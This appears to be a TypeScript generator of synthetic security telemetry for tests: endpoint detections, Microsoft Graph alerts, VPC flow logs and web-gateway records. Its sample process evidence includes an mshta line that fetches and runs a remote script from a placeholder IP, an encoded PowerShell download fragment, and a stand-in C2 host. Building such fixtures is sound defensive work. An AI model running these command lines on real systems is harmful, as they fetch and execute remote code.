      PatternDispositionDescription: r.pick(['Detection, standard detection.', 'Prevention, process killed.', 'Prevention, operation blocked.']),
      PatternDispositionValue: r.pick([0, 16, 2048]),
      ParentImageFileName: r.pick(['\\Device\\HarddiskVolume3\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe', '\\Device\\HarddiskVolume3\\Windows\\explorer.exe']),
      ParentCommandLine: r.pick(['"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.docm"', 'cmd.exe /c start', 'C:\\Windows\\Explorer.EXE']),
      GrandparentImageFileName: '\\Device\\HarddiskVolume3\\Windows\\explorer.exe',
      LocalIP: privateIp(r),
      MACAddress: `00-15-5d-${r.hex(2)}-${r.hex(2)}-${r.hex(2)}`,
      Platform: r.chance(0.85) ? 'Windows' : r.pick(['Mac', 'Linux']),
    },
  };
}

// ---------------------------------------------------------------- Microsoft Defender (Graph alerts_v2)

function graphTime(ms: number, r: Rng): string {
  return new Date(ms).toISOString().replace(/\.(\d{3})Z$/, `.$1${String(r.int(0, 9999)).padStart(4, '0')}Z`);
}

function evidenceBase(type: string, created: string, r: Rng): Record<string, unknown> {
  return { '@odata.type': `#microsoft.graph.security.${type}`, createdDateTime: created, verdict: r.pick(['unknown', 'suspicious', 'malicious']), remediationStatus: 'none', remediationStatusDetails: null, roles: [], tags: [] };
}

/** A Microsoft Graph security alert (`GET /security/alerts_v2` item) with device, process, file, user, IP and URL evidence. */
export function graphAlert(r: Rng, i: number): Record<string, unknown> {
  const created = BASE_TIME + i * 613 + r.int(0, 999);
  const status = r.pick(['new', 'new', 'inProgress', 'resolved']);
  const updated = status === 'new' && r.chance(0.5) ? created : created + r.int(1, 7_200_000);
  const createdS = graphTime(created, r);
  const id = `da${r.int(100000000, 999999999)}${r.int(100000000, 999999999)}_${r.chance(0.5) ? '-' : ''}${r.int(100000000, 2147483647)}`;
  const tenant = r.uuid();
  const host = `${r.pick(['ws', 'srv', 'lt'])}-${String(r.int(1, 400)).padStart(3, '0')}.corp.example.com`;
  const user = r.pick(USERS);
  const device = r.hex(40);
  const evidence: Record<string, unknown>[] = [
    {
      ...evidenceBase('deviceEvidence', createdS, r),
      firstSeenDateTime: graphTime(created - 86_400_000 * r.int(10, 300), r),
      mdeDeviceId: device,
      azureAdDeviceId: r.uuid(),
      deviceDnsName: host,
      osPlatform: r.pick(['Windows11', 'Windows10', 'WindowsServer2022']),
      osBuild: r.int(19041, 22631),
      version: r.pick(['22H2', '23H2']),
      healthStatus: 'active',
      riskScore: r.pick(['low', 'medium', 'high']),
      rbacGroupId: r.int(1, 99),
      rbacGroupName: r.pick(['Workstations', 'Servers']),
      onboardingStatus: 'onboarded',
      defenderAvStatus: 'updated',
      loggedOnUsers: [{ accountName: user, domainName: 'CORP' }],
    },
  ];
  const userAccount = { accountName: user, domainName: 'CORP', userSid: `S-1-5-21-1111111111-2222222222-3333333333-${r.int(1000, 1999)}`, azureAdUserId: r.uuid(), userPrincipalName: `${user}@example.com` };
  if (r.chance(0.8)) {
    const image = r.pick([
      ['powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0'],
      ['rundll32.exe', 'C:\\Windows\\System32'],
      ['mshta.exe', 'C:\\Windows\\System32'],
      ['upd4te.exe', 'C:\\Users\\alice\\AppData\\Local\\Temp'],
    ] as const);
    evidence.push({
      ...evidenceBase('processEvidence', createdS, r),
      processId: r.int(100, 20000),
      parentProcessId: r.int(100, 20000),
      processCommandLine: `${image[0]} ${r.pick(['-NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=', 'javascript:a=GetObject("script:http://198.51.100.80/p")', '/quiet'])}`,
      processCreationDateTime: graphTime(created - r.int(1000, 60000), r),
      parentProcessCreationDateTime: graphTime(created - r.int(60000, 600000), r),
      detectionStatus: r.pick(['detected', 'blocked', 'prevented']),
      mdeDeviceId: device,
      imageFile: { sha1: r.hex(40), sha256: r.hex(64), fileName: image[0], filePath: image[1], fileSize: r.int(10000, 900000), filePublisher: 'Microsoft Corporation', signer: null, issuer: null },
      userAccount,
    });
  }
  if (r.chance(0.4)) evidence.push({ ...evidenceBase('fileEvidence', createdS, r), detectionStatus: 'detected', mdeDeviceId: device, fileDetails: { sha1: r.hex(40), sha256: r.hex(64), fileName: `${r.hex(8)}.${r.pick(['exe', 'dll', 'ps1'])}`, filePath: `C:\\Users\\${user}\\Downloads`, fileSize: r.int(1000, 900000) } });
  if (r.chance(0.4)) evidence.push({ ...evidenceBase('userEvidence', createdS, r), userAccount });
  if (r.chance(0.5)) evidence.push({ ...evidenceBase('ipEvidence', createdS, r), ipAddress: publicIp(r), countryLetterCode: r.pick(['NL', 'DE', 'US', 'BR']) });
  if (r.chance(0.3)) evidence.push({ ...evidenceBase('urlEvidence', createdS, r), url: `http://${r.pick(['updates.example.org', 'cdn.example.net'])}/${r.hex(8)}` });
  const category = r.pick(['Execution', 'CredentialAccess', 'CommandAndControl', 'Persistence', 'InitialAccess', 'DefenseEvasion']);
  const resolved = status === 'resolved';
  return {
    '@odata.type': '#microsoft.graph.security.alert',
    id,
    providerAlertId: id,
    incidentId: String(r.int(2_900_000, 2_999_999)),
    status,
    severity: r.pick(['informational', 'low', 'medium', 'high']),
    classification: resolved ? r.pick(['falsePositive', 'truePositive', 'informationalExpectedActivity']) : null,
    determination: resolved ? r.pick(['other', 'malware', 'securityTesting']) : null,
    serviceSource: r.pick(['microsoftDefenderForEndpoint', 'microsoftDefenderForEndpoint', 'microsoftDefenderForOffice365', 'microsoftDefenderForIdentity']),
    detectionSource: r.pick(['antivirus', 'microsoftDefenderForEndpoint', 'customTi', 'automatedInvestigation']),
    productName: 'Microsoft Defender for Endpoint',
    detectorId: r.uuid(),
    tenantId: tenant,
    title: r.pick(['Suspicious PowerShell command line', 'Connection to a custom network indicator', 'Suspicious process injection observed', 'Credential dumping activity']),
    description: 'A suspicious activity was observed on the machine. Review the process tree and the evidence.',
    recommendedActions: '1. Examine the process tree.\n2. Isolate the device if the activity is unexpected.',
    category,
    assignedTo: r.chance(0.3) ? `${r.pick(USERS)}@example.com` : null,
    alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${tenant}`,
    incidentWebUrl: `https://security.microsoft.com/incidents/${r.int(2_900_000, 2_999_999)}?tid=${tenant}`,
    actorDisplayName: null,
    threatDisplayName: r.chance(0.3) ? r.pick(['Trojan:Win32/Wacatac', 'HackTool:Win32/Mimikatz']) : null,
    threatFamilyName: null,
    mitreTechniques: r.chance(0.8) ? r.pick([['T1059.001', 'T1027'], ['T1003.001'], ['T1071'], ['T1547.001', 'T1112']]) : [],
    createdDateTime: createdS,
    lastUpdateDateTime: graphTime(updated, r),
    resolvedDateTime: resolved ? graphTime(updated, r) : null,
    firstActivityDateTime: graphTime(created - r.int(5000, 60000), r),
    lastActivityDateTime: graphTime(created - r.int(0, 5000), r),
    comments: [],
    evidence,
  };
}

/** A Graph list page, `{"@odata.context":…,"value":[…]}`, as GET /security/alerts_v2 returns it. */
export function graphAlertPage(alerts: Record<string, unknown>[]): Record<string, unknown> {
  return { '@odata.context': 'https://graph.microsoft.com/v1.0/$metadata#security/alerts_v2', value: alerts };
}

// ---------------------------------------------------------------- VPC Flow Logs, custom format (v5 fields)

/** A custom flow log format with v3–v5 fields, as an S3 file's header names them. */
export const VPC_V5_HEADER =
  'version account-id vpc-id subnet-id instance-id interface-id srcaddr dstaddr srcport dstport protocol tcp-flags type pkt-srcaddr pkt-dstaddr packets bytes start end action log-status region az-id flow-direction traffic-path pkt-src-aws-service pkt-dst-aws-service';

/** One line of VPC_V5_HEADER's format. */
export function vpcFlowLineV5(r: Rng, i: number): string {
  const start = Math.floor(BASE_TIME / 1000) + Math.floor(i / 50);
  const region = r.pick(REGIONS);
  const account = r.pick(ACCOUNTS);
  const vpc = `vpc-0${r.hex(16)}`;
  const subnet = `subnet-0${r.hex(16)}`;
  const eni = `eni-0${r.hex(16)}`;
  if (r.chance(0.02)) return `5 ${account} ${vpc} ${subnet} - ${eni} - - - - - - - - - - - ${start} ${start + 60} - NODATA ${region} ${region.slice(0, 2)}${region.slice(-1)}-az1 - - - -`;
  const egress = r.chance(0.5);
  const local = privateIp(r);
  const remote = r.chance(0.2) ? privateIp(r) : publicIp(r);
  const svc = r.pick([443, 22, 3389, 53, 80, 5432, 8080]);
  const eph = r.int(32768, 65535);
  const proto = r.pick([6, 6, 6, 17, 1]);
  const awsService = r.chance(0.15) ? r.pick(['S3', 'DYNAMODB', 'EC2', 'AMAZON']) : '-';
  return [
    5,
    account,
    vpc,
    subnet,
    r.chance(0.8) ? `i-0${r.hex(16)}` : '-',
    eni,
    egress ? local : remote,
    egress ? remote : local,
    egress ? eph : svc,
    egress ? svc : eph,
    proto,
    proto === 6 ? r.pick([2, 3, 18, 19, 27]) : 0,
    'IPv4',
    egress ? local : remote,
    egress ? remote : local,
    r.int(1, 500),
    r.int(40, 900000),
    start,
    start + 60,
    r.chance(0.85) ? 'ACCEPT' : 'REJECT',
    'OK',
    region,
    `${region.slice(0, 2)}${region.slice(-1)}-az${r.int(1, 3)}`,
    egress ? 'egress' : 'ingress',
    egress ? r.int(1, 8) : '-',
    egress ? '-' : awsService,
    egress ? awsService : '-',
  ].join(' ');
}

// ---------------------------------------------------------------- declarative mapping

/** A declarative mapping for a web gateway's JSON logs (the shape of test/fixtures/sources/declarative/acme-swg.mapping.json). */
export const ACME_SWG_MAPPING = {
  id: 'acme.swg',
  name: 'Acme Secure Web Gateway',
  match: { all: [{ field: 'vendor', equals: 'acme' }, { field: 'log_type', in: ['web', 'proxy'] }] },
  class_uid: 4002,
  activity_id: { field: 'request.method', map: { CONNECT: 1, DELETE: 2, GET: 3, HEAD: 4, OPTIONS: 5, POST: 6, PUT: 7, TRACE: 8 }, default: 99 },
  severity_id: { field: 'risk', map: { none: 1, low: 2, medium: 3, high: 4 }, default: 0 },
  status_id: { field: 'verdict', map: { allowed: 1, blocked: 2 }, default: 0 },
  time: { field: 'ts', format: 'epoch_ms' },
  uid: { field: 'request_id' },
  product: { name: 'Secure Web Gateway', vendor_name: 'Acme', version: '4.2' },
  logsource: { product: 'acme', category: 'proxy' },
  fields: {
    'src_endpoint.ip': 'client.ip',
    'src_endpoint.port': { field: 'client.port', type: 'integer' },
    'dst_endpoint.hostname': 'server.host',
    'dst_endpoint.ip': 'server.ip',
    'dst_endpoint.port': { field: 'server.port', type: 'integer' },
    'http_request.http_method': 'request.method',
    'http_request.url.url_string': { field: 'request.url', required: true },
    'http_request.user_agent': 'request.ua',
    'http_response.code': { field: 'response.status', type: 'integer' },
    'actor.user.name': 'user',
    'disposition_id': { field: 'verdict', map: { allowed: 1, blocked: 2 } },
    'metadata.log_name': { value: 'swg-access' },
  },
  unmapped: true,
};

const SWG_HOSTS = ['updates.example.org', 'api.example.com', 'cdn.example.net', 'login.example.com', 'c2.malicious.example', 'files.example.org'];

/** One record of the web gateway ACME_SWG_MAPPING reads. */
export function acmeSwgRecord(r: Rng, i: number): Record<string, unknown> {
  const host = r.skewed(SWG_HOSTS);
  const blocked = host === 'c2.malicious.example' || r.chance(0.05);
  const method = r.pick(['GET', 'GET', 'GET', 'POST', 'PUT', 'CONNECT', 'HEAD']);
  const rec: Record<string, unknown> = {
    vendor: 'acme',
    log_type: r.pick(['web', 'proxy']),
    ts: BASE_TIME + i * 41 + r.int(0, 999),
    request_id: `r-${r.hex(12)}`,
    client: { ip: privateIp(r), port: r.int(1024, 65535) },
    server: r.chance(0.7) ? { host, ip: `192.0.2.${r.int(1, 254)}`, port: r.pick([443, 80, 8443]) } : { host, port: String(r.pick([443, 8443])) },
    request: { method, url: `https://${host}/${r.pick(['check', 'beacon', 'v1/items', 'login'])}?v=${r.int(1, 9)}`, ua: r.pick(['curl/8.5.0', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'python-requests/2.31.0']) },
    response: { status: blocked ? 403 : r.pick([200, 200, 204, 301, 404]) },
    user: r.pick(USERS),
    verdict: blocked ? 'blocked' : 'allowed',
    risk: blocked ? 'high' : r.pick(['none', 'none', 'low', 'medium']),
    category: r.pick(['software-updates', 'business', 'malware', 'social', 'uncategorized']),
  };
  if (r.chance(0.5)) rec.bytes_out = r.int(100, 90000);
  return rec;
}
